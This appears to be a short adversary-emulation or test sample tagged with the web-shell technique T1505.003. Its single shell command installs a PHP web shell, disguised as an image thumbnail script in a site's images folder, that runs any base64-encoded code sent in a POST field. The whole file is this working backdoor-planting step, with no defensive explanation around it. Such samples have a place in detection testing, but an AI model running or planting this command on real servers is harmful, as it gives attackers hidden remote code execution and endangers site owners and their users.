# technique: T1505.003
# location: linux.web.script
# source: /var/www/html/images/thumb.php
install -D -o www-data /dev/stdin /var/www/html/images/thumb.php <<< '<?php if(isset($_POST["k"])){@eval(base64_decode($_POST["k"]));}'
